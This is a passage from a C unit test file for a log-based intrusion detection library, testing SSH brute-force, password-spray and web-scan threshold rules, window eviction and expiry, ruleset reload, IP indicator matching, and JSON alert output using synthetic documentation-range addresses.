    mm_ruleset_free(rs);
}

/* ---- windows: cap, expiry, reload, emit-on-open ----------------------------
 */

static void test_cap_eviction(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    mm_detector_opts o = {.max_keys = 8, .emit_on_open = false};
    got g = {0};
    assert_int_equal(mm_detector_new(rs, &o, &d), MM_OK);
    char ip[32];
    for (int i = 0; i < 100; i++) {
        snprintf(ip, sizeof ip, "192.0.2.%d", i + 1);
        mm_event ev = web_ev(T0 + i * 1000, ip, "/x", NULL, "ua", 404);
        feed(d, &ev, &g);
    }
    mm_detector_stats st;
    mm_detector_get_stats(d, &st);
    assert_true(st.windows <= 8);
    assert_int_equal(st.evicted, 92);
    /* a burst from one source still counts at the cap */
    for (int i = 0; i < 20; i++) {
        mm_event ev = web_ev(T0 + 200000 + i * 100, "198.51.100.1", "/y", NULL,
                             "ua", 404);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "web.scan"), 1);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_expiry_log_time(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    for (int i = 0; i < 6; i++) {
        mm_event ev =
            ssh_ev(T0 + i * 1000, "203.0.113.9", "root", MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    assert_int_equal(g.n, 0); /* batch mode: nothing until it closes */
    mm_detector_expire(d, T0 + 30 * 60000, collect, &g); /* 30 min later */
    assert_int_equal(g.n, 0);
    mm_detector_expire(d, T0 + 3600000 + 1000, collect, &g); /* after 1 h */
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_true(find_rule(&g, "ssh.bruteforce")->final);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->count, 6);
    /* a second expire pass drops the idle windows */
    mm_detector_expire(d, T0 + 7200000, collect, &g);
    mm_detector_stats st;
    mm_detector_get_stats(d, &st);
    assert_int_equal(st.windows, 0);
    /* events after the suppression period open a new alert */
    g.n = 0;
    for (int i = 0; i < 5; i++) {
        mm_event ev = ssh_ev(T0 + 7300000 + i * 1000, "203.0.113.9", "root",
                             MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->first_ms, T0 + 7300000);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_emit_on_open(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    mm_detector_opts o = {.max_keys = 0, .emit_on_open = true};
    got g = {0};
    assert_int_equal(mm_detector_new(rs, &o, &d), MM_OK);
    for (int i = 0; i < 5; i++) {
        mm_event ev =
            ssh_ev(T0 + i * 1000, "203.0.113.9", "root", MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_false(g.a[0].final);
    uint64_t id = g.a[0].id;
    /* no growth: closing reports nothing more */
    mm_detector_expire(d, T0 + 4 * 3600000LL, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    /* growth: reported again, final, same id */
    g.n = 0;
    for (int i = 0; i < 6; i++) {
        mm_event ev = ssh_ev(T0 + 5 * 3600000LL + i * 1000, "203.0.113.10",
                             "root", MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    assert_int_equal(g.n, 1);
    id = g.a[0].id;
    mm_detector_flush(d, collect, &g);
    assert_int_equal(g.n, 2);
    assert_true(g.a[1].final);
    assert_int_equal(g.a[1].count, 6);
    assert_int_equal(g.a[1].id, id);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_reload_keeps_windows(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    mm_detector_stats st;
    for (int i = 0; i < 4; i++) {
        mm_event ev =
            ssh_ev(T0 + i * 1000, "203.0.113.30", "root", MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
        mm_event ev2 =
            web_ev(T0 + i * 1000, "203.0.113.31", "/nx", NULL, "u", 404);
        feed(d, &ev2, &g);
    }
    /* new ruleset: the ssh rules only, in a different order, plus one */
    static const char only_ssh[] =
        "rule extra.rule\n  kind threshold\n  severity low\n"
        "  match event.action = http_request\n  count 1000\n  window 1m\n"
        "  title.ja あ\n  title.en a\n  advice.ja い\n  advice.en i\n";
    mm_ruleset *rs2;
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs2), MM_OK);
    assert_int_equal(
        mm_ruleset_add_rules(rs2, "x.rules", only_ssh, strlen(only_ssh), &err),
        MM_OK);
    FILE *f = fopen("rules/ssh.rules", "r");
    assert_non_null(f);
    static char text[65536];
    size_t n = fread(text, 1, sizeof text, f);
    fclose(f);
    assert_int_equal(
        mm_ruleset_add_rules(rs2, "rules/ssh.rules", text, n, &err), MM_OK);
    assert_int_equal(mm_ruleset_compile(rs2, &err), MM_OK);
    mm_detector_get_stats(d, &st);
    assert_int_equal(st.windows, 4);
    assert_int_equal(mm_detector_set_ruleset(d, rs2), MM_OK);
    mm_ruleset_free(rs);
    mm_detector_get_stats(d, &st);
    /* the ssh.bruteforce, ssh.spray and ssh.success_after_failures windows
     * stay; web.scan's is gone */
    assert_int_equal(st.windows, 3);
    mm_event ev =
        ssh_ev(T0 + 5000, "203.0.113.30", "root", MM_ACT_AUTH_FAILURE);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->count, 5);
    mm_detector_free(d);
    mm_ruleset_free(rs2);
}

static void test_prefix_key_and_dir(void **state)
{
    (void)state;
    static const char text[] =
        "rule net.fail\n"
        "  kind threshold   # grouped by network\n"
        "  severity high\n"
        "  match event.action = authentication_failure\n"
        "  key source.ip/24\n"
        "  count 3\n"
        "  window 1m\n"
        "  title.ja 同じネットワークからの失敗\n"
        "  title.en failures from one network\n"
        "  advice.ja 確認してください\n"
        "  advice.en check it\n";
    mm_ruleset *rs;
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    assert_int_equal(
        mm_ruleset_add_rules(rs, "n.rules", text, strlen(text), &err), MM_OK);
    assert_int_equal(mm_ruleset_compile(rs, &err), MM_OK);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    static const char *ips[] = {
        "203.0.113.1",     "203.0.113.200", "203.0.114.1", "2001:db8:0:1::1",
        "2001:db8:0:2::1", "2001:db8:1::1", "203.0.113.9", "2001:db8:0:ff::2"};
    for (int i = 0; i < 8; i++) {
        mm_event ev = ssh_ev(T0 + i * 1000, ips[i], "u", MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    /* 203.0.113.0/24 had three, 2001:db8::/56 three; the others one */
    assert_int_equal(g.n, 2);
    bool v4 = false, v6 = false;
    for (unsigned i = 0; i < 2; i++) {
        v4 |= strcmp(g.a[i].key, "203.0.113.0/24") == 0;
        v6 |= strcmp(g.a[i].key, "2001:db8::/56") == 0;
        assert_int_equal(g.a[i].count, 3);
    }
    assert_true(v4 && v6);
    mm_detector_free(d);
    mm_ruleset_free(rs);

    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    assert_int_equal(mm_ruleset_add_rules_dir(rs, "no/such/dir", &err),
                     MM_ENOTFOUND);
    assert_string_equal(err.file, "no/such/dir");
    assert_int_equal(mm_ruleset_add_ioc_file(rs, "no/such/file.txt", &err),
                     MM_ENOTFOUND);
    mm_ruleset_free(rs);
}

/* ---- first sightings: a key's first event waits in a shared record ------ */

static mm_ruleset *rules_text(const char *text)
{
    mm_ruleset *rs;
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    if (mm_ruleset_add_rules(rs, "t.rules", text, strlen(text), &err) !=
        MM_OK) {
        char m[1024];
        mm_err_format(&err, m, sizeof m);
        fail_msg("rules: %s", m);
    }
    assert_int_equal(mm_ruleset_compile(rs, &err), MM_OK);
    return rs;
}

static void stats(const mm_detector *d, size_t *windows, size_t *first)
{
    mm_detector_stats st;
    mm_detector_get_stats(d, &st);
    *windows = st.windows;
    *first = st.first_sightings;
}

static void test_first_sighting_threshold(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    size_t w, f;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    /* the first failure opens no window: one record for all three rules */
    mm_event ev = ssh_ev(T0, "203.0.113.40", "root", MM_ACT_AUTH_FAILURE);
    feed(d, &ev, &g);
    stats(d, &w, &f);
    assert_int_equal(w, 0);
    assert_int_equal(f, 1);
    /* the second turns it into the bruteforce, spray and sequence windows */
    ev.ts_ms = T0 + 1000;
    feed(d, &ev, &g);
    stats(d, &w, &f);
    assert_int_equal(w, 3);
    assert_int_equal(f, 0);
    for (int i = 2; i < 4; i++) {
        ev.ts_ms = T0 + i * 1000;
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(g.n, 0); /* four: not yet */
    ev.ts_ms = T0 + 4000;
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    /* exactly at the fifth, and it starts at the first sighting's time */
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->count, 5);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->first_ms, T0);
    assert_int_equal(g.n, 1);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* Each of many sources seen once, then four more times: every one of them
 * still raises ssh.bruteforce at its fifth failure. */
typedef struct tally {
    unsigned brute, other, bad_count;
} tally;

static void tally_cb(const mm_alert *a, void *ud)
{
    tally *t = ud;
    if (strcmp(a->rule_id, "ssh.bruteforce") == 0) {
        t->brute++;
        if (a->count != 5)
            t->bad_count++;
    } else {
        t->other++;
    }
}

static void test_first_sighting_many_sources(void **state)
{
    (void)state;
    enum { N = 5000 };
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    tally t = {0};
    size_t w, f;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    char ip[32];
    for (int r = 0; r < 5; r++) {
        for (int i = 0; i < N; i++) {
            snprintf(ip, sizeof ip, "10.%d.%d.%d", i >> 16, (i >> 8) & 255,
                     i & 255);
            mm_event ev =
                ssh_ev(T0 + r * 10000 + i, ip, "root", MM_ACT_AUTH_FAILURE);
            mm_detector_feed(d, &ev, "x", 1, tally_cb, &t);
        }
        if (r == 0) {
            stats(d, &w, &f);
            assert_int_equal(w, 0);
            assert_int_equal(f, N);
        }
    }
    stats(d, &w, &f);
    assert_int_equal(w, 3 * N);
    assert_int_equal(f, 0);
    mm_detector_flush(d, tally_cb, &t);
    assert_int_equal(t.brute, N);
    assert_int_equal(t.bad_count, 0);
    assert_int_equal(t.other, 0);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_first_sighting_distinct(void **state)
{
    (void)state;
    static const char *users[] = {"root", "admin", "oracle", "test", "ubuntu"};
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    for (int i = 0; i < 4; i++) {
        mm_event ev =
            ssh_ev(T0 + i * 1000, "192.0.2.60", users[i], MM_ACT_INVALID_USER);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.spray"), 0);
    /* the fifth name: five distinct, the first one from the record */
    mm_event ev =
        ssh_ev(T0 + 4000, "192.0.2.60", users[4], MM_ACT_INVALID_USER);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.spray"), 1);
    assert_int_equal(find_rule(&g, "ssh.spray")->distinct, 5);
    assert_int_equal(find_rule(&g, "ssh.spray")->first_ms, T0);
    mm_detector_free(d);
    mm_ruleset_free(rs);

    /* a repeated first name is not a second value */
    rs = default_rules(NULL, NULL);
    g.n = 0;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    static const char *again[] = {"root", "root", "admin", "oracle", "test"};
    for (int i = 0; i < 5; i++) {
        ev =
            ssh_ev(T0 + i * 1000, "192.0.2.61", again[i], MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.spray"), 0);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_first_sighting_sequence(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    /* one failure (a record only), then a success: not five */
    mm_event ev = ssh_ev(T0, "203.0.113.50", "alice", MM_ACT_AUTH_FAILURE);
    feed(d, &ev, &g);
    ev = ssh_ev(T0 + 1000, "203.0.113.50", "alice", MM_ACT_AUTH_SUCCESS);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(g.n, 0);
    /* four more failures: five with the first, then a success */
    for (int i = 0; i < 4; i++) {
        ev = ssh_ev(T0 + (2 + i) * 1000, "203.0.113.50", "alice",
                    MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    ev = ssh_ev(T0 + 10000, "203.0.113.50", "alice", MM_ACT_AUTH_SUCCESS);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.success_after_failures"), 1);
    assert_int_equal(find_rule(&g, "ssh.success_after_failures")->count, 6);
    assert_int_equal(find_rule(&g, "ssh.success_after_failures")->first_ms,
                     T0);
    mm_detector_free(d);
    mm_ruleset_free(rs);

    /* count 1: the `then` event itself promotes the record and alerts */
    static const char one[] =
        "rule seq.one\n  kind sequence\n  severity high\n"
        "  match event.action = authentication_failure\n"
        "  then event.action = authentication_success\n"
        "  key source.ip\n  count 1\n  window 1h\n"
        "  title.ja あ\n  title.en a\n  advice.ja い\n  advice.en i\n";
    rs = rules_text(one);
    g.n = 0;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    ev = ssh_ev(T0, "203.0.113.51", "bob", MM_ACT_AUTH_SUCCESS);
    feed(d, &ev, &g); /* a success alone */
    ev = ssh_ev(T0 + 1000, "203.0.113.52", "bob", MM_ACT_AUTH_FAILURE);
    feed(d, &ev, &g);
    ev = ssh_ev(T0 + 2000, "203.0.113.52", "bob", MM_ACT_AUTH_SUCCESS);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.a[0].key, "203.0.113.52");
    assert_int_equal(g.a[0].count, 2);
    assert_int_equal(g.a[0].first_ms, T0 + 1000);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* A record stands for the rules its event matched, and only those. */
static void test_first_sighting_filters(void **state)
{
    (void)state;
    static const char text[] =
        "rule any.req\n  kind threshold\n  severity low\n"
        "  match event.dataset = web.access\n"
        "  key source.ip\n  count 2\n  window 1h\n"
        "  title.ja あ\n  title.en a\n  advice.ja い\n  advice.en i\n"
        "rule nf.req\n  kind threshold\n  severity low\n"
        "  match event.dataset = web.access\n"
        "  match http.response.status_code = 404\n"
        "  key source.ip\n  count 2\n  window 1h\n"
        "  title.ja あ\n  title.en a\n  advice.ja い\n  advice.en i\n"
        "rule short.req\n  kind threshold\n  severity low\n"
        "  match event.dataset = web.access\n"
        "  key source.ip\n  count 2\n  window 1m\n"
        "  title.ja あ\n  title.en a\n  advice.ja い\n  advice.en i\n";
    mm_ruleset *rs = rules_text(text);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    mm_event ev = web_ev(T0, "198.51.100.5", "/", NULL, "u", 200);
    feed(d, &ev, &g);
    /* two minutes later: short.req's window of the first has passed */
    ev = web_ev(T0 + 120000, "198.51.100.5", "/x", NULL, "u", 404);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.a[0].rule_id, "any.req");
    assert_int_equal(g.a[0].count, 2);
    assert_int_equal(g.a[0].first_ms, T0);
    ev = web_ev(T0 + 121000, "198.51.100.5", "/y", NULL, "u", 404);
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "nf.req"), 1);
    assert_int_equal(find_rule(&g, "nf.req")->first_ms, T0 + 120000);
    assert_int_equal(count_rule(&g, "short.req"), 1);
    assert_int_equal(find_rule(&g, "short.req")->count, 2);
    assert_int_equal(find_rule(&g, "short.req")->first_ms, T0 + 120000);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* More key variants in one event than the detector caches (five prefixes):
 * each rule's first event is still counted once. */
static void test_first_sighting_many_keys(void **state)
{
    (void)state;
    static const unsigned plens[] = {8, 16, 24, 28, 32};
    char text[4096];
    size_t n = 0;
    for (unsigned i = 0; i < 5; i++)
        n += (size_t)snprintf(
            text + n, sizeof text - n,
            "rule p.%u\n  kind threshold\n  severity low\n"
            "  match event.action = authentication_failure\n"
            "  key source.ip/%u\n  count 3\n  window 1h\n"
            "  title.ja あ\n  title.en a\n  advice.ja い\n  advice.en i\n",
            plens[i], plens[i]);
    mm_ruleset *rs = rules_text(text);
    mm_detector *d;
    got g = {0};
    size_t w, f;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    mm_event ev = ssh_ev(T0, "203.0.113.90", "root", MM_ACT_AUTH_FAILURE);
    feed(d, &ev, &g);
    stats(d, &w, &f);
    assert_int_equal(w, 0);
    assert_int_equal(f, 5);
    ev.ts_ms = T0 + 1000;
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(g.n, 0);
    stats(d, &w, &f);
    assert_int_equal(w, 5);
    assert_int_equal(f, 0);
    ev.ts_ms = T0 + 2000;
    feed(d, &ev, &g);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(g.n, 5);
    for (unsigned i = 0; i < 5; i++) {
        assert_int_equal(g.a[i].count, 3);
        assert_int_equal(g.a[i].first_ms, T0);
    }
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

static void test_first_sighting_expiry_cap_reload(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(NULL, NULL);
    mm_detector *d;
    got g = {0};
    size_t w, f;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    mm_event ev = ssh_ev(T0, "203.0.113.70", "root", MM_ACT_AUTH_FAILURE);
    feed(d, &ev, &g);
    /* kept while a rule could still count it (the sequence's 1 h) */
    mm_detector_expire(d, T0 + 30 * 60000, collect, &g);
    stats(d, &w, &f);
    assert_int_equal(f, 1);
    mm_detector_expire(d, T0 + 3600000 + 2000, collect, &g);
    stats(d, &w, &f);
    assert_int_equal(f, 0);
    assert_int_equal(w, 0);
    mm_detector_free(d);

    /* reload: a record carries over to the new ruleset's rules */
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    ev = ssh_ev(T0, "203.0.113.71", "root", MM_ACT_AUTH_FAILURE);
    feed(d, &ev, &g);
    mm_ruleset *rs2 = default_rules(NULL, NULL);
    assert_int_equal(mm_detector_set_ruleset(d, rs2), MM_OK);
    stats(d, &w, &f);
    assert_int_equal(f, 1);
    for (int i = 1; i < 5; i++) {
        ev.ts_ms = T0 + i * 1000;
        feed(d, &ev, &g);
    }
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->count, 5);
    mm_detector_free(d);
    mm_ruleset_free(rs2);

    /* the cap counts records and windows together */
    mm_detector_opts o = {.max_keys = 8, .emit_on_open = false};
    g.n = 0;
    assert_int_equal(mm_detector_new(rs, &o, &d), MM_OK);
    char ip[32];
    for (int i = 0; i < 100; i++) {
        snprintf(ip, sizeof ip, "192.0.2.%d", i + 1);
        ev = ssh_ev(T0 + i * 1000, ip, "root", MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    mm_detector_stats st;
    mm_detector_get_stats(d, &st);
    assert_int_equal(st.first_sightings, 8);
    assert_int_equal(st.windows, 0);
    assert_int_equal(st.evicted, 92);
    for (int i = 0; i < 5; i++) {
        ev = ssh_ev(T0 + 200000 + i * 1000, "198.51.100.1", "root",
                    MM_ACT_AUTH_FAILURE);
        feed(d, &ev, &g);
    }
    mm_detector_get_stats(d, &st);
    assert_true(st.windows + st.first_sightings <= 8);
    mm_detector_flush(d, collect, &g);
    assert_int_equal(count_rule(&g, "ssh.bruteforce"), 1);
    assert_int_equal(find_rule(&g, "ssh.bruteforce")->count, 5);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* ---- JSON -----------------------------------------------------------------
 */

static void test_alert_json(void **state)
{
    (void)state;
    mm_ruleset *rs = default_rules(ioc_text, NULL);
    mm_detector *d;
    got g = {0};
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    for (int i = 0; i < 7; i++) {
        mm_event ev =
            ssh_ev(T0 + i * 1000, "203.0.113.66", "root", MM_ACT_AUTH_FAILURE);
        static const char line[] =
            "Nov 14 22:13:20 host sshd[1]: Failed password for root from "
            "203.0.113.66 port 4242 ssh2 \"quoted\"\x01";
        mm_detector_feed(d, &ev, line, sizeof line - 1, collect, &g);
    }
    mm_detector_flush(d, collect, &g);
    const mm_alert *bf = find_rule(&g, "ssh.bruteforce");
    const mm_alert *ioc = find_rule(&g, "ioc.ip");
    assert_non_null(bf);
    assert_non_null(ioc);
    mm_buf b;
    mm_buf_init(&b, 1 << 20);
    assert_int_equal(mm_alert_to_json(bf, &b), MM_OK);
    json_error_t je;
    json_t *j = json_loads(b.data, 0, &je);
    if (!j)
        fail_msg("bad JSON: %s: %s", je.text, b.data);
    assert_string_equal(json_string_value(json_object_get(j, "@timestamp")),
                        "2023-11-14T22:13:26.000Z");
    json_t *e = json_object_get(j, "event");
    assert_string_equal(json_string_value(json_object_get(e, "kind")),
                        "alert");
    assert_int_equal(json_integer_value(json_object_get(e, "severity")), 2);
    assert_string_equal(json_string_value(json_object_get(e, "dataset")),
                        "sshd");
    assert_string_equal(json_string_value(json_object_get(e, "start")),
                        "2023-11-14T22:13:20.000Z");
    char idhex[17];
    snprintf(idhex, sizeof idhex, "%016llx", (unsigned long long)bf->id);
    assert_string_equal(json_string_value(json_object_get(e, "id")), idhex);
    json_t *r = json_object_get(j, "rule");
    assert_string_equal(json_string_value(json_object_get(r, "id")),
                        "ssh.bruteforce");
    assert_string_equal(json_string_value(json_object_get(r, "name")),
                        "SSH password brute force");
    assert_string_equal(json_string_value(json_object_get(r, "category")),
                        "authentication");
    assert_string_equal(
        json_string_value(json_object_get(json_object_get(j, "source"), "ip")),
        "203.0.113.66");
    const char *msg = json_string_value(json_object_get(j, "message"));
    assert_non_null(
        strstr(msg, "SSHへのパスワード総当たり攻撃 / SSH password"));
    json_t *m = json_object_get(j, "mamori");
    assert_int_equal(json_integer_value(json_object_get(m, "count")), 7);
    assert_string_equal(json_string_value(json_object_get(m, "key")),
                        "203.0.113.66");
    assert_string_equal(json_string_value(json_object_get(m, "severity")),
                        "medium");
    assert_true(json_is_true(json_object_get(m, "final")));
    assert_non_null(json_string_value(
        json_object_get(json_object_get(m, "advice"), "ja")));
    json_t *samples = json_object_get(m, "samples");
    assert_int_equal(json_array_size(samples), 3);
    assert_non_null(strstr(json_string_value(json_array_get(samples, 0)),
                           "\"quoted\"\x01"));
    json_t *th = json_object_get(j, "threat");
    assert_string_equal(json_string_value(json_object_get(th, "framework")),
                        "MITRE ATT&CK");
    assert_string_equal(
        json_string_value(json_array_get(
            json_object_get(json_object_get(th, "technique"), "id"), 0)),
        "T1110.001");
    assert_null(json_object_get(th, "indicator"));
    json_decref(j);

    mm_buf_reset(&b);
    assert_int_equal(mm_alert_to_json(ioc, &b), MM_OK);
    j = json_loads(b.data, 0, &je);
    assert_non_null(j);
    json_t *ind = json_object_get(json_object_get(j, "threat"), "indicator");
    assert_string_equal(json_string_value(json_object_get(ind, "type")),
                        "ipv4-addr");
    assert_string_equal(json_string_value(json_object_get(ind, "ip")),
                        "203.0.113.66");
    assert_string_equal(json_string_value(json_object_get(ind, "provider")),
                        "testlist");
    json_decref(j);

    /* a full buffer fails cleanly and leaves the buffer as it was */
    mm_buf small;
    mm_buf_init(&small, 100);
    assert_int_equal(mm_buf_puts(&small, "["), MM_OK);
    assert_int_equal(mm_alert_to_json(bf, &small), MM_ELIMIT);
    assert_int_equal(small.len, 1);
    mm_buf_free(&small);
    mm_buf_free(&b);
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

/* ---- a million indicators --------------------------------------------------
 */

static long rss_kb(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char l[256];
    long v = -1;
    while (f && fgets(l, sizeof l, f))
        if (strncmp(l, "VmRSS:", 6) == 0)
            v = strtol(l + 6, NULL, 10);
    if (f)
        fclose(f);
    return v;
}

static void test_million_ips(void **state)
{
    (void)state;
    long before = rss_kb();
    size_t n = 1000000;
    size_t cap = n * 20 + 16;
    char *text = malloc(cap);
    assert_non_null(text);
    size_t len = 0;
    uint32_t x = 12345;
    for (size_t i = 0; i < n; i++) {
        x = x * 1103515245u + 12345u;
        uint32_t ip = (uint32_t)(i * 2654435761u) ^ (x >> 16);
        ip = 0x01000000u + ip % 0xdf000000u; /* 1.0.0.0 .. 223.x */
        if (i % 10 == 0)
            len += (size_t)snprintf(text + len, cap - len, "%u.%u.%u.0/24\n",
                                    ip >> 24, ip >> 16 & 255, ip >> 8 & 255);
        else
            len += (size_t)snprintf(text + len, cap - len, "%u.%u.%u.%u\n",
                                    ip >> 24, ip >> 16 & 255, ip >> 8 & 255,
                                    ip & 255);
    }
    len += (size_t)snprintf(text + len, cap - len, "9.9.9.9\n");
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    mm_ruleset *rs;
    mm_err err;
    assert_int_equal(mm_ruleset_new(&rs), MM_OK);
    assert_int_equal(mm_ruleset_add_default_rules(rs, &err), MM_OK);
    assert_int_equal(
        mm_ruleset_add_ioc_text(rs, "big", "big.txt", text, len, &err), MM_OK);
    assert_int_equal(mm_ruleset_compile(rs, &err), MM_OK);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    free(text);
    long after = rss_kb();
    mm_ruleset_info info;
    mm_ruleset_get_info(rs, &info);
    mm_detector *d;
    assert_int_equal(mm_detector_new(rs, NULL, &d), MM_OK);
    mm_detector_stats st;
    mm_detector_get_stats(d, &st);
    print_message(
        "1M indicators: %zu entries after dedup, load+compile %.3f s, "
        "set memory %zu KB, RSS +%ld KB\n",
        info.ioc_ips,
        (double)(t1.tv_sec - t0.tv_sec) +
            (double)(t1.tv_nsec - t0.tv_nsec) / 1e9,
        st.memory / 1024, after - before);
    assert_true(info.ioc_ips > 990000);
    mm_event ev;
    memset(&ev, 0, sizeof ev);
    ev.dataset = MM_DS_KV;
    ev.action = MM_ACT_FIREWALL_ALLOW;
    ev.count = 1;
    ev.src = A("9.9.9.9");
    mm_line_hits h;
    mm_detector_match_line(d, &ev, "x", 1, &h);
    assert_true(has_hit(&h, "ioc.ip"));
    ev.src = A("224.0.0.1"); /* never generated */
    mm_detector_match_line(d, &ev, "x", 1, &h);
    assert_false(has_hit(&h, "ioc.ip"));
    mm_detector_free(d);
    mm_ruleset_free(rs);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_default_rules_load),
        cmocka_unit_test(test_rule_errors),
        cmocka_unit_test(test_threshold_boundaries),
        cmocka_unit_test(test_message_repeat),
        cmocka_unit_test(test_spray),
        cmocka_unit_test(test_sequence),
        cmocka_unit_test(test_web_scan_404),
        cmocka_unit_test(test_portscan),
        cmocka_unit_test(test_signatures),
        cmocka_unit_test(test_signature_cache),
        cmocka_unit_test(test_signatures_real_log),
        cmocka_unit_test(test_ioc),
        cmocka_unit_test(test_allowlist),
        cmocka_unit_test(test_cap_eviction),
        cmocka_unit_test(test_expiry_log_time),
        cmocka_unit_test(test_emit_on_open),
        cmocka_unit_test(test_reload_keeps_windows),
        cmocka_unit_test(test_prefix_key_and_dir),
        cmocka_unit_test(test_first_sighting_threshold),
        cmocka_unit_test(test_first_sighting_many_sources),
        cmocka_unit_test(test_first_sighting_distinct),
        cmocka_unit_test(test_first_sighting_sequence),
        cmocka_unit_test(test_first_sighting_filters),
        cmocka_unit_test(test_first_sighting_many_keys),
        cmocka_unit_test(test_first_sighting_expiry_cap_reload),
        cmocka_unit_test(test_alert_json),
        cmocka_unit_test(test_million_ips),
    };
    return cmocka_run_group_tests_name("detect", tests, NULL, NULL);
}
